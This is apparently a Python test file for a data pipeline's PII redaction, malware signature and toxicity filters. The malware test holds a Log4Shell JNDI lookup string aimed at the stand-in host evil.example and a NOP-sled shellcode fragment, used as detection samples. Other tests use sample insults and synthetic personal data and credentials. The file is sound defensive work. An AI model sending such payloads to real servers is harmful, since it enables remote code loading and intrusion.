"""PII redaction (Luhn-checked cards), malware signatures, toxicity word list."""

from __future__ import annotations

import random

from data_pipeline.content import (
    MalwareConfig,
    MalwareFilter,
    PiiConfig,
    PiiFilter,
    ToxicityConfig,
    ToxicityFilter,
    luhn_valid,
)
from data_pipeline.synthetic import EICAR, valid_card
from lmforge.formats.corpus import Document


def reference_luhn(number: str) -> bool:
    """Textbook form: double every second digit from the right, sum the digits of the results."""
    digits = [int(c) for c in number][::-1]
    total = sum(digits[0::2]) + sum(sum(divmod(2 * d, 10)) for d in digits[1::2])
    return total % 10 == 0


def test_luhn_against_textbook_formula():
    rng = random.Random(0)
    for _ in range(2000):
        number = "".join(str(rng.randint(0, 9)) for _ in range(rng.randint(13, 19)))
        assert luhn_valid(number) == reference_luhn(number)
    assert luhn_valid("4111111111111111") and not luhn_valid("4111111111111112")


def doc(text: str) -> Document:
    return Document(id="d", text=text, source="test", domain="web")


def test_pii_redacted_and_non_luhn_digits_kept():
    card = valid_card(random.Random(5))
    not_a_card = "1234 5678 9012 3456"
    assert not luhn_valid(not_a_card.replace(" ", ""))
    text = (
        f"Mail alice.smith@example.com or bob_99@mail.example.org, call +1 415-555-0134 or (212) 555-0199. "
        f"Card {card} was charged; reference {not_a_card} is an order number. Server 203.0.113.9, "
        f"router 192.168.1.1. SSN 123-45-6789, NI number AB 12 34 56 C."
    )
    d = doc(text)
    assert PiiFilter(PiiConfig())(d) is None
    for secret in (
        "alice.smith@example.com",
        "bob_99@mail.example.org",
        "415-555-0134",
        "555-0199",
        card,
        "203.0.113.9",
        "123-45-6789",
        "AB 12 34 56 C",
    ):
        assert secret not in d.text, secret
    assert not_a_card in d.text and "192.168.1.1" in d.text
    assert d.metadata["pii_redacted"] == {"card": 1, "email": 2, "ip": 1, "nino": 1, "phone": 2, "ssn": 1}


def test_pii_drop_mode_names_the_kinds():
    assert PiiFilter(PiiConfig(mode="drop"))(doc("write to x@example.com")) == "pii_email"
    assert PiiFilter(PiiConfig(mode="drop"))(doc("nothing personal here")) is None


def test_malware_signatures():
    mf = MalwareFilter(MalwareConfig())
    assert mf(doc(f"test file: {EICAR}")) == "malware_eicar_test_string"
    assert mf(doc('buf = "' + "\\x90" * 12 + '"')) == "malware_shellcode_nop_sled"
    assert mf(doc("GET /?q=${jndi:ldap://evil.example/a}")) == "malware_log4shell_jndi"
    assert mf(doc("An essay about antivirus history and the EICAR organisation.")) is None


def test_toxicity_word_list():
    tf = ToxicityFilter(ToxicityConfig(train_classifier=False))
    assert tf(doc("You idiot, you pathetic moron, nobody cares about your worthless posts.")) == "toxicity_word_list"
    assert tf(doc("The committee reviewed the budget and approved the new library hours.")) is None


def test_obfuscated_emails_and_url_credentials_redacted():
    text = (
        "Schreiben Sie an hans.meier (at) beispiel (dot) de oder an info [at] example [dot] co [dot] uk. "
        "Support: help AT example DOT org, sales @ example.com, jo@ example.net. "
        "Clone https://alice:s3cret@git.example.com/repo.git or postgres://admin:hunter2@db.internal:5432/app."
    )
    d = doc(text)
    d.url = "ftp://bob:pa55@files.example.org/pub/"
    assert PiiFilter(PiiConfig())(d) is None
    for secret in ("hans.meier", "beispiel", "info [at]", "help AT", "sales @", "jo@", "s3cret", "hunter2", "alice"):
        assert secret not in d.text, secret
    assert "https://<CREDENTIALS>@git.example.com/repo.git" in d.text
    assert d.url == "ftp://<CREDENTIALS>@files.example.org/pub/"
    assert d.metadata["pii_redacted"] == {"email": 5, "credentials": 3}


def test_ordinary_at_and_dot_words_are_not_emails():
    kept = [
        "We met at home. Then we left at noon (at) the latest.",
        "Look at this dot com bubble; the meeting is at 10:30 at the hall.",
        "@user replied to the thread; see https://example.com/@alice too.",
        "Rome (at) sunset, photo by Anna.",
    ]
    for text in kept:
        d = doc(text)
        assert PiiFilter(PiiConfig())(d) is None and d.text == text, text
